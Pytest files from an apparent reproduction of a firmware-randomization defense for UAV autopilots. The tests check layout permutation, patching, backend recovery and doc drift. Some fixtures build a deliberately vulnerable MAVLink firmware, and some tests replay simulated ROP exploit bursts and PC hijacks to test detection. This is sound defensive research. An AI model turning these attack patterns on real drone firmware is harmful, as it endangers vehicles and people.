    return build_app(TESTAPP, MAVR_OPTIONS, vulnerable=True)


@pytest.fixture(scope="session")
def testapp_stock():
    """The same app under the stock toolchain (relax + call prologues)."""
    return build_app(TESTAPP, STOCK_OPTIONS, vulnerable=True)


@pytest.fixture(scope="session")
def testapp_safe():
    """The app with the MAVLink length check enabled (not exploitable)."""
    return build_app(TESTAPP, MAVR_OPTIONS, vulnerable=False)


@pytest.fixture(scope="session")
def randomized_testapp(testapp):
    """One fixed randomization of the test app (seed 1234)."""
    image, permutation = randomize_image(testapp, random.Random(1234))
    return image, permutation
