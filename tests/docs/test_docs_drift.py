"""Doc-drift checks: the documentation must match the code it documents.

Three mechanical invariants, enforced in CI:

* every CLI invocation shown in a fenced code block parses against the
  *real* argparse tree (`repro.tools.cli.build_parser`) — a renamed flag
  or removed subcommand fails here before a reader trips over it;
* every relative markdown link resolves to a file in the repository;
* the comparison matrix embedded in ``docs/DEFENSES.md`` is exactly what
  ``format_matrix_table`` renders from the committed
  ``BENCH_defense_matrix.json`` — the table cannot drift from the data;
* likewise the detector scorecard in ``docs/ATTACKS.md`` against
  ``BENCH_detector.json`` (via ``format_detector_table``), and the doc's
  per-kind coverage against the live attack registry.
"""

import json
import re
import shlex
from pathlib import Path

import pytest

from repro.analysis.defense_matrix import format_matrix_table
from repro.tools.cli import build_parser

REPO = Path(__file__).resolve().parent.parent.parent
DOC_FILES = sorted(
    [REPO / "README.md", REPO / "EXPERIMENTS.md"] + list((REPO / "docs").glob("*.md"))
)

_FENCE = re.compile(r"^```")
_LINK = re.compile(r"\[[^\]]*\]\(([^)\s]+)\)")


def _fenced_lines(path: Path):
    """(line_number, text) for every line inside a fenced code block."""
    inside = False
    for number, line in enumerate(path.read_text().splitlines(), start=1):
        if _FENCE.match(line.strip()):
            inside = not inside
            continue
        if inside:
            yield number, line


def _cli_invocations():
    """Every ``python -m repro.tools ...`` command fenced in the docs."""
    found = []
    for path in DOC_FILES:
        pending = ""
        for number, line in _fenced_lines(path):
            line = pending + line.strip()
            pending = ""
            if line.endswith("\\"):
                pending = line[:-1] + " "
                continue
            if "python -m repro.tools" not in line:
                continue
            command = line.split("#", 1)[0]  # trailing comment
            command = re.split(r"\s(?:>|>>|\|)\s", command)[0]  # redirects/pipes
            tokens = shlex.split(command)
            anchor = tokens.index("repro.tools")
            found.append((path.relative_to(REPO), number, tokens[anchor + 1 :]))
    return found


CLI_INVOCATIONS = _cli_invocations()


def test_docs_actually_contain_cli_invocations():
    # the extractor going blind would vacuously pass the parse check
    assert len(CLI_INVOCATIONS) >= 8
    assert {args[0] for _, _, args in CLI_INVOCATIONS if args} >= {
        "attack", "defend", "campaign",
    }


@pytest.mark.parametrize(
    "source,line,args",
    CLI_INVOCATIONS,
    ids=[f"{path}:{line}" for path, line, _ in CLI_INVOCATIONS],
)
def test_fenced_cli_invocations_parse(source, line, args):
    parser = build_parser()
    try:
        parser.parse_args(args)
    except SystemExit:
        pytest.fail(
            f"{source}:{line}: `python -m repro.tools {' '.join(args)}` "
            "no longer parses against the real CLI"
        )


@pytest.mark.parametrize(
    "path", DOC_FILES, ids=[str(p.relative_to(REPO)) for p in DOC_FILES]
)
def test_internal_links_resolve(path):
    text = path.read_text()
    # fenced code often contains [x](y)-shaped noise; strip the blocks
    text = re.sub(r"```.*?```", "", text, flags=re.DOTALL)
    broken = []
    for target in _LINK.findall(text):
        if target.startswith(("http://", "https://", "mailto:", "#")):
            continue
        resolved = (path.parent / target.split("#", 1)[0]).resolve()
        if not resolved.exists():
            broken.append(target)
    assert not broken, f"{path.relative_to(REPO)}: broken links {broken}"


def test_defenses_matrix_matches_committed_json():
    doc = (REPO / "docs" / "DEFENSES.md").read_text()
    match = re.search(
        r"<!-- defense-matrix:begin -->\n(.*?)\n<!-- defense-matrix:end -->",
        doc,
        re.DOTALL,
    )
    assert match, "docs/DEFENSES.md lost its defense-matrix markers"
    matrix = json.loads((REPO / "BENCH_defense_matrix.json").read_text())
    expected = format_matrix_table(matrix)
    assert match.group(1) == expected, (
        "docs/DEFENSES.md matrix drifted from BENCH_defense_matrix.json; "
        "re-run benchmarks/bench_defense_matrix.py and paste the table"
    )


def test_attacks_detector_table_matches_committed_json():
    from repro.analysis.detector_eval import format_detector_table

    doc = (REPO / "docs" / "ATTACKS.md").read_text()
    match = re.search(
        r"<!-- detector-matrix:begin -->\n(.*?)\n<!-- detector-matrix:end -->",
        doc,
        re.DOTALL,
    )
    assert match, "docs/ATTACKS.md lost its detector-matrix markers"
    results = json.loads((REPO / "BENCH_detector.json").read_text())
    expected = format_detector_table(results["matrix"])
    assert match.group(1) == expected, (
        "docs/ATTACKS.md scorecard drifted from BENCH_detector.json; "
        "re-run benchmarks/bench_detector.py and paste the table"
    )


def test_detector_json_covers_every_protocol_kind():
    from repro.attack import PROTOCOL_LAYER, attack_names

    results = json.loads((REPO / "BENCH_detector.json").read_text())
    assert tuple(results["matrix"]["kinds"]) == attack_names(PROTOCOL_LAYER)
    required = {
        "expected", "runs", "detected", "effects", "benign_false_alarms",
        "effect_rate", "recall", "precision",
    }
    for name, metrics in results["matrix"]["kinds"].items():
        missing = required - set(metrics)
        assert not missing, f"{name} missing {missing}"
    assert results["flood_throughput"]["frames_per_s"] > 0


def test_attacks_doc_documents_every_registered_kind():
    from repro.attack import attack_names

    doc = (REPO / "docs" / "ATTACKS.md").read_text()
    undocumented = [
        name for name in attack_names() if f"`{name}`" not in doc
    ]
    assert not undocumented, (
        f"docs/ATTACKS.md missing registered attack kinds: {undocumented}"
    )


def test_matrix_json_covers_every_backend_and_metric():
    from repro.core.defenses import DEFENSE_BACKENDS

    matrix = json.loads((REPO / "BENCH_defense_matrix.json").read_text())
    required = {
        "entropy_bits", "gadget_survival", "startup_overhead_ms",
        "recovery_latency_ms", "recovery_pages_written",
    }
    assert matrix["apps"], "matrix has no applications"
    for app_name, app in matrix["apps"].items():
        assert set(app["backends"]) == set(DEFENSE_BACKENDS), app_name
        for backend, metrics in app["backends"].items():
            missing = required - set(metrics)
            assert not missing, f"{app_name}/{backend} missing {missing}"
