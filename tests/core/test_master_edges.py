"""Master processor / MavrSystem error paths and accounting details."""

import pytest

from repro.core import MavrSystem, MasterProcessor, WatchdogConfig
from repro.errors import DefenseError
from repro.uav import Autopilot


def test_boot_without_deployment_fails(testapp):
    autopilot = Autopilot(testapp)
    master = MasterProcessor(autopilot)
    with pytest.raises(DefenseError):
        master.boot()


def test_running_image_before_boot(testapp):
    system = MavrSystem(testapp, seed=1)
    with pytest.raises(RuntimeError):
        _ = system.running_image


def test_startup_overheads_accumulate(testapp):
    system = MavrSystem(testapp, seed=1)
    system.boot()
    system.master.boot(attack_detected=True)
    stats = system.master.stats
    assert len(stats.startup_overheads_ms) == 2
    assert all(ms > 0 for ms in stats.startup_overheads_ms)
    assert stats.boots == 2


def test_each_boot_gets_fresh_monitor(testapp):
    system = MavrSystem(testapp, seed=2)
    system.boot()
    first_monitor = system.master.monitor
    system.master.boot(attack_detected=True)
    assert system.master.monitor is not first_monitor


def test_deploy_after_deploy_reparses(testapp, testapp_safe):
    from repro.core import preprocess

    system = MavrSystem(testapp, seed=3)
    system.boot()
    first = system.running_image.code
    # redeploy the safe build; next boot randomizes *it*
    system.master.deploy(preprocess(testapp_safe))
    system.master.boot(attack_detected=True)
    assert system.running_image.code != first


def test_watch_detects_crash_directly(testapp):
    system = MavrSystem(testapp, seed=4)
    system.boot()
    system.run(5)
    # force a hard crash
    system.autopilot.cpu.pc = (system.running_image.size + 64) // 2
    system.autopilot.tick()
    assert system.master.watch()  # detected and recovered
    assert system.autopilot.status.value == "running"
    assert system.report().attacks_detected == 1


def test_watchdog_silence_detection_via_master(testapp):
    # an aggressive window that the normal loop satisfies easily
    system = MavrSystem(
        testapp, seed=5,
        watchdog=WatchdogConfig(expected_period_cycles=50_000,
                                missed_periods_threshold=2),
    )
    system.boot()
    assert system.run(40) == 0  # healthy firmware never trips it


def test_startup_overhead_measurement_is_side_effect_free(testapp):
    """Satellite fix: reporting a number must not burn a wear cycle or
    inflate the boot/randomization counters."""
    system = MavrSystem(testapp, seed=40)
    system.boot()
    before = (
        system.master.stats.boots,
        system.master.stats.randomizations,
        system.master.isp.stats.programming_cycles,
        system.master.isp.clock.now_ms,
        system.running_image.code,
    )
    ms = system.master.startup_overhead_ms()
    assert ms > 0
    after = (
        system.master.stats.boots,
        system.master.stats.randomizations,
        system.master.isp.stats.programming_cycles,
        system.master.isp.clock.now_ms,
        system.running_image.code,
    )
    assert after == before
    # the dry-run model prices the same full transfer a first boot pays
    assert abs(ms - system.master.stats.startup_overheads_ms[0]) / ms < 1e-9


def test_remaining_cycles_exposed_through_master_stats(testapp):
    system = MavrSystem(testapp, seed=41)
    assert system.master.stats.flash_cycles_remaining is None  # not booted yet
    system.boot()
    stats = system.master.stats
    assert stats.flash_cycles_remaining == system.master.isp.remaining_cycles
    assert stats.last_pages_written > 0
    system.master.boot(attack_detected=True)
    assert system.master.stats.flash_cycles_remaining == (
        system.master.isp.endurance - 2
    )


def test_master_rng_is_isolated(testapp):
    """Two systems with the same seed produce the same first layout."""
    a = MavrSystem(testapp, seed=77)
    b = MavrSystem(testapp, seed=77)
    a.boot()
    b.boot()
    assert a.running_image.code == b.running_image.code
    c = MavrSystem(testapp, seed=78)
    c.boot()
    assert c.running_image.code != a.running_image.code
