"""Randomization + patching: permutation structure, behavioural equivalence,
pointer rewriting, and the toolchain constraints."""

import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.asm.linker import STOCK_OPTIONS
from repro.core import (
    check_randomizable,
    generate_permutation,
    layout_entropy_bits,
    permutation_count,
    randomize_image,
    verify_patched,
)
from repro.core.patching import patch_image
from repro.core.randomize import shuffled_symbol_table
from repro.errors import DefenseError
from repro.firmware import TESTAPP, build_app
from repro.uav import Autopilot


def test_permutation_is_complete(testapp):
    permutation = generate_permutation(testapp, random.Random(0))
    moves = permutation.moves
    assert len(moves) == testapp.function_count()
    # new addresses tile .text exactly
    spans = sorted((m.new_address, m.size) for m in moves)
    cursor = testapp.text_start
    for address, size in spans:
        assert address == cursor
        cursor += size
    assert cursor == testapp.text_end


def test_permutation_address_translation(testapp):
    permutation = generate_permutation(testapp, random.Random(0))
    for move in permutation.moves:
        assert permutation.new_address_of(move.old_address) == move.new_address
        interior = move.old_address + min(4, move.size - 2)
        assert (
            permutation.new_address_of(interior)
            == move.new_address + (interior - move.old_address)
        )
    assert permutation.new_address_of(testapp.text_start - 2) is None
    assert permutation.new_address_of(testapp.text_end) is None


def test_randomized_image_structure(randomized_testapp, testapp):
    randomized, permutation = randomized_testapp
    verify_patched(testapp, randomized, permutation)
    assert randomized.size == testapp.size
    # the function multiset is preserved (names and sizes)
    old = sorted((s.name, s.size) for s in testapp.functions())
    new = sorted((s.name, s.size) for s in randomized.functions())
    assert old == new


def test_randomization_moves_most_functions(testapp):
    permutation = generate_permutation(testapp, random.Random(99))
    assert permutation.identity_fraction < 0.2


def test_behavioural_equivalence(randomized_testapp, testapp):
    """The paper's implicit correctness claim: randomization must not
    change what the firmware does — byte-identical telemetry."""
    randomized, _permutation = randomized_testapp

    def run(image, ticks=25):
        autopilot = Autopilot(image)
        transmitted = b""
        for _ in range(ticks):
            autopilot.tick()
            transmitted += autopilot.transmitted_bytes()
        return autopilot, transmitted

    original_ap, original_tx = run(testapp)
    randomized_ap, randomized_tx = run(randomized)
    assert original_tx == randomized_tx
    assert original_ap.read_variable("loop_counter") == randomized_ap.read_variable("loop_counter")
    assert original_ap.cpu.data.sp == randomized_ap.cpu.data.sp


@settings(max_examples=5, deadline=None)
@given(st.integers(0, 2**31))
def test_behavioural_equivalence_any_seed(seed):
    """Equivalence must hold for every permutation, not a lucky one."""
    from repro.asm.linker import MAVR_OPTIONS

    image = build_app(TESTAPP, MAVR_OPTIONS)
    randomized, _ = randomize_image(image, random.Random(seed))

    def run(target, ticks=6):
        autopilot = Autopilot(target)
        transmitted = b""
        for _ in range(ticks):
            autopilot.tick()
            transmitted += autopilot.transmitted_bytes()
        return transmitted

    assert run(image) == run(randomized)


def test_funcptr_tables_stable_and_trampolines_retargeted(randomized_testapp, testapp):
    """Pointer slots keep their trampoline addresses; the stubs' jmps
    follow the moved functions instead."""
    from repro.avr import Mnemonic, decode_at

    randomized, permutation = randomized_testapp
    assert randomized.funcptr_locations == testapp.funcptr_locations
    for location in randomized.funcptr_locations:
        old_word = testapp.read_funcptr(location)
        new_word = randomized.read_funcptr(location)
        assert old_word == new_word  # slot unchanged (points at a stub)
        old_stub, _ = decode_at(testapp.code, old_word * 2)
        new_stub, _ = decode_at(randomized.code, new_word * 2)
        assert old_stub.mnemonic is Mnemonic.JMP
        assert new_stub.mnemonic is Mnemonic.JMP
        # the stub now jmps to the function's new home
        assert permutation.new_address_of(old_stub.k * 2) == new_stub.k * 2
        containing = randomized.symbols.function_containing(new_stub.k * 2)
        assert containing is not None and containing.address == new_stub.k * 2


def test_fixed_region_entry_patched(randomized_testapp, testapp):
    """__init's `jmp main` must follow main to its new home."""
    from repro.avr import decode_at, Mnemonic

    randomized, _permutation = randomized_testapp
    fixed_end = min(randomized.text_start, randomized.data_start)
    main_word = randomized.symbols.get("main").word_address
    offset = 0
    found = False
    while offset + 1 < fixed_end:
        insn, size = decode_at(randomized.code, offset)
        if insn.mnemonic is Mnemonic.JMP and insn.k == main_word:
            found = True
            break
        offset += size
    assert found


def test_double_randomization(testapp):
    """Randomizing a randomized image works (re-randomize on detection)."""
    first, _p1 = randomize_image(testapp, random.Random(1))
    second, _p2 = randomize_image(first, random.Random(2))
    second.validate()

    def run(image, ticks=6):
        autopilot = Autopilot(image)
        transmitted = b""
        for _ in range(ticks):
            autopilot.tick()
            transmitted += autopilot.transmitted_bytes()
        return transmitted

    assert run(testapp) == run(second)


def test_stock_toolchain_rejected(testapp_stock):
    with pytest.raises(DefenseError):
        check_randomizable(testapp_stock)


def test_mavr_toolchain_accepted(testapp):
    check_randomizable(testapp)  # no exception


def test_permutation_math():
    assert permutation_count(3) == 6
    assert permutation_count(0) == 1
    # log2(800!) ~ 6567 bits (paper §VIII-B)
    assert abs(layout_entropy_bits(800) - 6567) < 10


def test_patch_image_rejects_unmapped_pointer(testapp):
    permutation = generate_permutation(testapp, random.Random(5))
    broken = testapp.with_code(testapp.code)
    broken.funcptr_locations = list(testapp.funcptr_locations)
    code = bytearray(broken.code)
    slot = broken.funcptr_locations[0]
    # point into the data region: not a trampoline, not inside any block
    bad_word = testapp.data_start // 2 + 2
    code[slot] = bad_word & 0xFF
    code[slot + 1] = (bad_word >> 8) & 0xFF
    broken = broken.with_code(bytes(code))
    from repro.errors import PatchError
    with pytest.raises(PatchError):
        patch_image(broken, permutation)


def test_patch_image_leaves_trampoline_slots(testapp):
    """Slots pointing into the fixed region are layout-stable."""
    permutation = generate_permutation(testapp, random.Random(6))
    patched = patch_image(testapp, permutation)
    for location in testapp.funcptr_locations:
        assert patched[location : location + 2] == testapp.code[location : location + 2]


def test_shuffled_symbol_table_keeps_objects(testapp):
    permutation = generate_permutation(testapp, random.Random(3))
    table = shuffled_symbol_table(testapp, permutation)
    assert len(table.objects()) == len(testapp.symbols.objects())
    assert len(table.functions()) == len(testapp.symbols.functions())


def test_seeded_randomization_is_deterministic(testapp):
    """Same seeded RNG -> identical permutation, bytes and symbol table.

    Reproducibility is what makes every experiment in this repo
    re-runnable; a nondeterministic shuffle (e.g. iteration over an
    unordered container) would silently break it.
    """
    def snapshot(seed):
        image, permutation = randomize_image(testapp, random.Random(seed))
        moves = [
            (m.name, m.old_address, m.new_address, m.size)
            for m in permutation.moves
        ]
        symbols = [
            (s.name, s.address, s.size, s.kind) for s in image.symbols
        ]
        return moves, image.code, symbols

    assert snapshot(99) == snapshot(99)
    # and a different seed actually changes the layout
    assert snapshot(99)[1] != snapshot(100)[1]
