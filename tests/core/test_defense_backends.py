"""Backend conformance: every registered defense satisfies one contract.

Parametrized over ``DEFENSE_BACKENDS`` so a fourth backend inherits the
whole suite by being registered: detection -> recovery end to end, seeded
determinism, monotonic accounting.  Backend-specific guarantees (mavr's
byte-identity with the pre-backend pipeline, ctomp's zero flash wear,
daedalus' sub-block tiling) follow as targeted tests.
"""

import random

import pytest

from repro.avr.memory import FLASH_SIZE
from repro.core.defenses import (
    DEFENSE_BACKENDS,
    CtompBackend,
    DaedalusBackend,
    MavrBackend,
    create_backend,
)
from repro.core.mavr import MavrSystem
from repro.core.patching import randomize_image
from repro.core.splitting import split_image_blocks, split_report
from repro.errors import DefenseError


def wild_jump(system):
    """Hijack the PC beyond flash — the paper's failed-ROP signature."""
    system.autopilot.cpu.pc = (system.running_image.size + 64) // 2


@pytest.fixture(params=DEFENSE_BACKENDS)
def backend_name(request):
    return request.param


# -- the common contract ---------------------------------------------------


def test_detection_and_recovery_end_to_end(testapp, backend_name):
    system = MavrSystem(testapp, seed=7, defense=backend_name)
    system.boot()
    system.run(20, watch_every=5)
    wild_jump(system)
    detections = system.run(10, watch_every=5)
    report = system.report()
    assert detections == 1
    assert report.attacks_detected == 1
    assert system.autopilot.status.value == "running"
    assert report.defense == backend_name
    # and the system keeps flying after recovery
    before = system.autopilot.cpu.instructions_lifetime
    system.run(10, watch_every=5)
    after = (
        system.autopilot.cpu.instructions_lifetime
        + system.autopilot.cpu.instructions_retired
    )
    assert after > before


def test_same_seed_same_layout(testapp, backend_name):
    first = MavrSystem(testapp, seed=2024, defense=backend_name)
    second = MavrSystem(testapp, seed=2024, defense=backend_name)
    first.boot()
    second.boot()
    assert first.running_image.code == second.running_image.code
    # determinism must survive a full detection/recovery cycle too
    for system in (first, second):
        system.run(20, watch_every=5)
        wild_jump(system)
        system.run(10, watch_every=5)
    assert first.running_image.code == second.running_image.code
    assert (
        first.autopilot.cpu.flash.dump() == second.autopilot.cpu.flash.dump()
    )


def test_stats_are_monotonic_and_labelled(testapp, backend_name):
    system = MavrSystem(testapp, seed=3, defense=backend_name)
    snapshots = []

    def counters():
        stats = system.defense.stats
        return (
            stats.diversifications,
            stats.zero_reflash_recoveries,
            stats.checkpoints,
            stats.integrity_checks,
        )

    system.boot()
    snapshots.append(counters())
    system.run(20, watch_every=5)
    snapshots.append(counters())
    wild_jump(system)
    system.run(10, watch_every=5)
    snapshots.append(counters())
    for earlier, later in zip(snapshots, snapshots[1:]):
        for before, after in zip(earlier, later):
            assert after >= before
    # counters refuse to run backwards outright
    from repro.errors import TelemetryError

    with pytest.raises(TelemetryError):
        system.defense.stats.diversifications = -1
    # the report carries the backend's own accounting, labelled by name
    assert system.report().defense_stats == system.defense.stats.as_dict()


def test_create_backend_rejects_unknown_name():
    with pytest.raises(DefenseError, match="unknown defense backend"):
        create_backend("aslr")


def test_system_accepts_backend_instance(testapp):
    backend = DaedalusBackend()
    system = MavrSystem(testapp, seed=1, defense=backend)
    assert system.defense is backend
    system.boot()
    assert system.report().defense == "daedalus"


# -- mavr: byte-identity with the pre-backend pipeline ---------------------


def test_mavr_backend_is_byte_identical_to_legacy_pipeline(testapp):
    default = MavrSystem(testapp, seed=2024)
    named = MavrSystem(testapp, seed=2024, defense="mavr")
    default.boot()
    named.boot()
    assert default.running_image.code == named.running_image.code
    # and both equal the raw randomizer under the same RNG stream
    reference, _ = randomize_image(
        default.master._original_image(), random.Random(2024)
    )
    assert default.running_image.code == reference.code
    assert isinstance(default.defense, MavrBackend)


def test_mavr_honors_policy_schedule(testapp):
    from repro.core.policy import RandomizationPolicy

    system = MavrSystem(
        testapp, seed=5, defense="mavr",
        policy=RandomizationPolicy(randomize_every_boots=10),
    )
    system.boot()
    randomizations = system.report().randomizations
    system.boot()  # a healthy reboot inside the wear-throttling interval
    assert system.report().randomizations == randomizations


# -- daedalus: sub-block granularity, fresh layout every boot --------------


def test_daedalus_rediversifies_every_boot(testapp):
    system = MavrSystem(testapp, seed=5, defense="daedalus")
    first_overhead = system.boot()
    image_one = system.running_image.code
    system.boot()
    assert system.report().randomizations == 2
    assert system.running_image.code != image_one
    assert first_overhead > 0


def test_daedalus_splits_below_function_granularity(testapp):
    report = split_report(testapp)
    assert report.blocks > report.functions
    split = split_image_blocks(testapp)
    assert split.function_count() == report.blocks
    # the relocation index survives the re-tiling (same code bytes)
    assert split.reloc_index is testapp.reloc_index


def test_daedalus_scatters_only_with_flash_headroom(testapp):
    roomy = DaedalusBackend()  # full ATmega2560 flash: testapp leaves room
    assert roomy.scatters(roomy.split(testapp))
    scattered, _ = roomy.diversify(testapp, random.Random(1))
    assert len(scattered.code) > len(testapp.code)

    tight = DaedalusBackend(flash_size=len(testapp.code))
    assert not tight.scatters(tight.split(testapp))
    shuffled, _ = tight.diversify(testapp, random.Random(1))
    assert len(shuffled.code) == len(testapp.code)
    # in-place mode still yields more entropy than function granularity
    assert tight.entropy_bits(testapp) > 0
    assert roomy.entropy_bits(testapp) > tight.entropy_bits(testapp)


def test_daedalus_in_place_mode_protects_the_board(testapp):
    backend = DaedalusBackend(flash_size=len(testapp.code))
    system = MavrSystem(testapp, seed=11, defense=backend)
    system.boot()
    system.run(20, watch_every=5)
    wild_jump(system)
    assert system.run(10, watch_every=5) == 1
    assert system.autopilot.status.value == "running"


# -- ctomp: zero-reflash recovery -----------------------------------------


def test_ctomp_recovers_without_flash_wear(testapp):
    system = MavrSystem(testapp, seed=9, defense="ctomp")
    system.boot()
    assert system.report().flash_cycles_used == 1  # the install
    system.run(20, watch_every=5)
    wild_jump(system)
    assert system.run(10, watch_every=5) == 1
    report = system.report()
    assert report.flash_cycles_used == 1  # recovery wrote nothing
    assert report.defense_stats["zero_reflash_recoveries"] == 1
    assert report.last_startup_overhead_ms < 2.0


def test_ctomp_restores_task_context_not_a_cold_reset(testapp):
    system = MavrSystem(testapp, seed=9, defense="ctomp")
    system.boot()
    system.run(30, watch_every=5)
    counter_before = system.autopilot.read_variable("loop_counter")
    assert counter_before > 0
    wild_jump(system)
    system.run(10, watch_every=5)
    counter_after = system.autopilot.read_variable("loop_counter")
    # a reflash-and-reboot would restart the counter near zero; the
    # checkpoint restore resumes it from the last healthy watch pass
    assert counter_after > counter_before * 0.8


def test_ctomp_accepts_stock_toolchain_builds(testapp_stock):
    # MAVR must reject relaxed builds; ctomp never moves code, so the
    # stock toolchain deploys fine
    with pytest.raises(DefenseError):
        MavrSystem(testapp_stock, seed=1, defense="mavr")
    system = MavrSystem(testapp_stock, seed=1, defense="ctomp")
    system.boot()
    assert system.run(20, watch_every=5) == 0


def test_ctomp_checkpoints_on_healthy_watch_passes(testapp):
    system = MavrSystem(testapp, seed=9, defense="ctomp")
    system.boot()
    system.run(20, watch_every=5)
    stats = system.defense.stats
    assert stats.checkpoints == 4
    assert stats.integrity_checks == 4


def test_ctomp_entropy_is_honestly_zero(testapp):
    assert CtompBackend().entropy_bits(testapp) == 0.0
    backend = CtompBackend()
    diversified, layout = backend.diversify(testapp, random.Random(0))
    assert diversified is testapp
    assert layout is None
