"""The MAVR system: preprocessing, master processor, watchdog, policy,
fuses, and the full attack-vs-defense experiment of §VII-A."""

import pytest

from repro.attack import StealthyAttack, Write3, variable_address
from repro.core import (
    EVERY_BOOT,
    EVERY_TENTH_BOOT,
    MavrSystem,
    RandomizationPolicy,
    ReadoutProtectedFlash,
    WatchdogConfig,
    load_preprocessed,
    preprocess,
    preprocess_report,
)
from repro.errors import DefenseError, FlashWearError, FuseViolationError
from repro.hw import FLASH_ENDURANCE_CYCLES
from repro.mavlink.messages import PARAM_SET
from repro.uav import Autopilot, MaliciousGroundStation


# -- preprocessing ----------------------------------------------------------

def test_preprocess_roundtrip(testapp):
    hex_text = preprocess(testapp)
    restored = load_preprocessed(hex_text)
    assert restored.code == testapp.code
    assert restored.function_count() == testapp.function_count()
    assert restored.funcptr_locations == testapp.funcptr_locations
    assert restored.toolchain_tag == testapp.toolchain_tag


def test_preprocess_report(testapp):
    report = preprocess_report(testapp)
    assert report.function_count == testapp.function_count()
    assert report.funcptr_slots == len(testapp.funcptr_locations)
    assert report.hex_bytes > report.text_bytes  # HEX is ASCII-expanded


def test_preprocess_rejects_stock_build(testapp_stock):
    with pytest.raises(DefenseError):
        preprocess(testapp_stock)


# -- policy -------------------------------------------------------------------

def test_policy_every_boot():
    assert EVERY_BOOT.should_randomize(0, False)
    assert EVERY_BOOT.should_randomize(7, False)


def test_policy_every_tenth():
    assert EVERY_TENTH_BOOT.should_randomize(0, False)  # first boot always
    assert not EVERY_TENTH_BOOT.should_randomize(3, False)
    assert EVERY_TENTH_BOOT.should_randomize(10, False)
    # a detected attack overrides the schedule
    assert EVERY_TENTH_BOOT.should_randomize(3, True)


def test_policy_lifetime_arithmetic():
    assert EVERY_BOOT.flash_lifetime_boots() == FLASH_ENDURANCE_CYCLES
    assert EVERY_TENTH_BOOT.flash_lifetime_boots() == FLASH_ENDURANCE_CYCLES * 10
    days = EVERY_BOOT.flash_lifetime_days(boots_per_day=4)
    assert days == FLASH_ENDURANCE_CYCLES / 4
    with pytest.raises(ValueError):
        EVERY_BOOT.flash_lifetime_days(0)
    with pytest.raises(ValueError):
        RandomizationPolicy(0)


# -- fuses ---------------------------------------------------------------------

def test_fuse_blocks_external_read(testapp):
    autopilot = Autopilot(testapp)
    protected = ReadoutProtectedFlash(autopilot.cpu.flash, locked=True)
    with pytest.raises(FuseViolationError):
        protected.external_read(0, 32)


def test_fuse_chip_erase_unlocks_but_destroys(testapp):
    autopilot = Autopilot(testapp)
    protected = ReadoutProtectedFlash(autopilot.cpu.flash, locked=True)
    protected.chip_erase()
    assert not protected.locked
    assert protected.external_read(0, 2) == b"\xff\xff"  # contents gone


# -- the full system -----------------------------------------------------------

@pytest.fixture()
def protected_system(testapp):
    system = MavrSystem(testapp, seed=2024)
    system.boot()
    return system


def test_boot_randomizes_and_programs(protected_system, testapp):
    report = protected_system.report()
    assert report.boots == 1
    assert report.randomizations == 1
    assert report.flash_cycles_used == 1
    assert report.last_startup_overhead_ms > 0
    # the running image differs from the original
    assert protected_system.running_image.code != testapp.code


def test_protected_system_flies(protected_system):
    detections = protected_system.run(50)
    assert detections == 0
    assert protected_system.autopilot.read_variable("loop_counter") > 0


def test_replayed_attack_fails_and_is_detected(protected_system, testapp):
    """§VII-A: craft against the unprotected binary, replay at MAVR."""
    attack = StealthyAttack(testapp)
    station = MaliciousGroundStation()
    target = variable_address(testapp, "gyro_offset")
    burst = station.exploit_burst(
        PARAM_SET.msg_id, attack.attack_bytes([Write3(target, b"\x40\x00\x00")])
    )
    protected_system.run(10)
    protected_system.autopilot.receive_bytes(burst)
    protected_system.run(150, watch_every=5)
    report = protected_system.report()
    # no effect on the target...
    assert protected_system.autopilot.read_variable("gyro_offset") == 0
    # ...and the master noticed the failed attempt and re-randomized
    assert report.attacks_detected >= 1
    assert report.randomizations >= 2
    # the system recovered in flight
    assert protected_system.autopilot.status.value == "running"


def test_rerandomization_changes_layout(protected_system):
    first = protected_system.running_image.code
    protected_system.master.boot(attack_detected=True)
    second = protected_system.running_image.code
    assert first != second


def test_policy_skips_randomization_between_boots(testapp):
    system = MavrSystem(testapp, policy=EVERY_TENTH_BOOT, seed=5)
    system.boot()  # boot 0: randomizes
    overhead = system.master.boot()  # boot 1: policy skips
    assert overhead == 0.0
    report = system.report()
    assert report.boots == 2
    assert report.randomizations == 1


def test_flash_wear_budget(testapp):
    system = MavrSystem(testapp, seed=6)
    system.master.isp.endurance = 3
    system.boot()
    system.master.boot(attack_detected=True)
    system.master.boot(attack_detected=True)
    with pytest.raises(FlashWearError):
        system.master.boot(attack_detected=True)


def test_cost_report(protected_system):
    cost = protected_system.report().cost
    assert cost["extra_usd"] == 11.68
    assert cost["increase_pct"] == 7.3


def test_watchdog_config_window():
    config = WatchdogConfig(expected_period_cycles=1000, missed_periods_threshold=3)
    assert config.window_cycles == 3000
