"""Padded randomization (§VIII-B extension): scatter blocks with gaps."""

import random

import pytest

from repro.attack import GadgetFinder, StealthyAttack, Write3, variable_address
from repro.core import (
    generate_padded_permutation,
    padded_entropy_bits,
    randomize_image_padded,
)
from repro.core.randomize import layout_entropy_bits
from repro.errors import DefenseError
from repro.mavlink.messages import PARAM_SET
from repro.uav import Autopilot, AutopilotStatus, MaliciousGroundStation

FLASH_64K = 64 * 1024


def test_padded_permutation_structure(testapp):
    permutation = generate_padded_permutation(
        testapp, random.Random(0), flash_size=FLASH_64K
    )
    moves = sorted(permutation.moves, key=lambda m: m.new_address)
    # all blocks above the data section, inside flash, non-overlapping
    cursor = testapp.data_end
    for move in moves:
        assert move.new_address >= cursor
        cursor = move.new_address + move.size
    assert cursor <= FLASH_64K
    # gaps actually exist
    gaps = [
        b.new_address - (a.new_address + a.size)
        for a, b in zip(moves, moves[1:])
    ]
    assert any(gap > 0 for gap in gaps)


def test_padded_randomization_behavioural_equivalence(testapp):
    randomized, _permutation = randomize_image_padded(
        testapp, random.Random(5), flash_size=FLASH_64K
    )

    def run(image, ticks=10):
        autopilot = Autopilot(image)
        transmitted = b""
        for _ in range(ticks):
            autopilot.tick()
            transmitted += autopilot.transmitted_bytes()
        return transmitted

    assert run(testapp) == run(randomized)


def test_padded_gaps_are_undecodable(testapp):
    randomized, permutation = randomize_image_padded(
        testapp, random.Random(5), flash_size=FLASH_64K
    )
    moves = sorted(permutation.moves, key=lambda m: m.new_address)
    # probe one inter-block gap: must be erased flash
    for a, b in zip(moves, moves[1:]):
        gap_start = a.new_address + a.size
        if b.new_address - gap_start >= 2:
            assert randomized.code[gap_start] == 0xFF
            break
    # and the old .text is blanked: no leftover gadget bytes
    assert all(
        byte == 0xFF
        for byte in randomized.code[testapp.text_start : testapp.text_end]
    )


def test_padded_old_gadgets_gone(testapp):
    finder = GadgetFinder(testapp)
